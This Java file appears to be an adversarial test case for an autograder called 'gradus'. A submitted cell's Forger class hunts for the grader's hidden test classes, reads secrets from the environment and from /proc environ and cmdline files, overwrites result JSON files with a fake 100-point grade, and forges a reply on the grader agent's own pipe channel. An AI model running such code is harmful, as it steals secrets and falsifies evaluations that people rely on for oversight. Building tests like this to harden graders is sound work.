// What it is: a forger who looks for the grader in its own process
// Loses: accuracy
// Outcome: graded
// Reason: disturbed the connection
// new cell: forger after accuracy-task
import java.io.*;
import java.lang.reflect.*;
import java.nio.file.*;

/** What lies in this process that could hold a verdict, a test, a seed or a secret. */
class Forger {
  interface Attempt {
    Object run() throws Throwable;
  }

  static final List<String> loot = new ArrayList<>();

  static void attempt(Attempt attempt) {
    try {
      Object found = attempt.run();
      if (found != null && found != Boolean.FALSE) {
        loot.add(found.toString());
      }
    } catch (Throwable shut) {
      // The next one, then.
    }
  }

  /** Classes of the trusted side: none should be here. */
  static void classes() {
    for (String name :
        List.of(
            "org.gradus.grader.result.Result",
            "org.gradus.grader.junit.Verdict",
            "org.gradus.grader.junit.Scores",
            "org.gradus.grader.exercises.MultinomialRegressionChecks",
            "org.gradus.grader.hidden.HiddenTests",
            "org.gradus.grader.grading.Grading",
            "org.junit.jupiter.api.Test",
            "org.assertj.core.api.Assertions")) {
      for (Thread thread : Thread.getAllStackTraces().keySet()) {
        attempt(() -> Class.forName(name, true, thread.getContextClassLoader()));
      }
      attempt(() -> Class.forName(name, true, ClassLoader.getSystemClassLoader()));
    }
  }

  /** Secrets where processes leave them. */
  static void secrets() {
    attempt(() -> System.getenv("GRADUS_SECRET"));
    attempt(() -> System.getProperty("gradus.secret"));
    File[] processes = new File("/proc").listFiles();
    for (File process : processes == null ? new File[0] : processes) {
      for (String file : List.of("environ", "cmdline")) {
        attempt(
            () -> {
              String text = Files.readString(process.toPath().resolve(file));
              return text.contains("SECRET") ? text : null;
            });
      }
    }
  }

  /** A result that lies about already: overwritten. */
  static void results() {
    for (String folder : List.of(".", "..", "results", "build/grades/02-multinomial-regression/results")) {
      attempt(
          () -> {
            File[] found = new File(folder).listFiles((f, name) -> name.endsWith(".json"));
            for (File each : found == null ? new File[0] : found) {
              Files.writeString(each.toPath(), "{\"status\": \"graded\", \"points\": 100}");
              loot.add(each.getPath());
            }
            return null;
          });
    }
  }

  /** The agent's own fields, opened, and its own channel, to answer in its place. */
  static void agent() throws Throwable {
    ClassLoader loader = Forger.class.getClassLoader();
    for (Class<?> type = loader.getClass(); type != null; type = type.getSuperclass()) {
      for (Field field : type.getDeclaredFields()) {
        attempt(
            () -> {
              field.setAccessible(true);
              if (field.get(loader) instanceof Map<?, ?> map) {
                map.clear();
              }
              return null;
            });
      }
    }
    String home = "org.gradus.grader.agent.";
    Class<?> message = Class.forName(home + "Message", true, loader);
    Class<?> kind = Class.forName(home + "Message$Kind", true, loader);
    Class<?> bounds = Class.forName(home + "Bounds", true, loader);
    Class<?> handles = Class.forName(home + "Handles", true, loader);
    Constructor<?> channel =
        Class.forName(home + "Channel", true, loader)
            .getDeclaredConstructor(InputStream.class, OutputStream.class, bounds, handles);
    channel.setAccessible(true);
    Object reply =
        message
            .getDeclaredConstructor(kind, int.class, List.class)
            .newInstance(kind.getField("RETURNED").get(null), 1, List.of(1.0));
    for (int descriptor = 3; descriptor < 64; descriptor++) {
      String path = "/proc/self/fd/" + descriptor;
      attempt(
          () -> {
            if (!Files.readSymbolicLink(Path.of(path)).toString().startsWith("pipe:")) {
              return null;
            }
            Object own =
                channel.newInstance(
                    InputStream.nullInputStream(),
                    new FileOutputStream(path),
                    bounds.getField("USUAL").get(null),
                    handles.getField("NONE").get(null));
            Method send = own.getClass().getDeclaredMethod("send", message);
            send.setAccessible(true);
            return send.invoke(own, reply);
          });
    }
  }
}

// cell: accuracy
double accuracy(int[] answers, int[] truth) {
  Forger.classes();
  Forger.secrets();
  Forger.results();
  if (!Forger.loot.isEmpty()) {
    throw new IllegalStateException("loot: " + Forger.loot);
  }
  try {
    Forger.agent();
  } catch (Throwable shut) {
    throw new IllegalStateException(shut);
  }
  return -1;
}
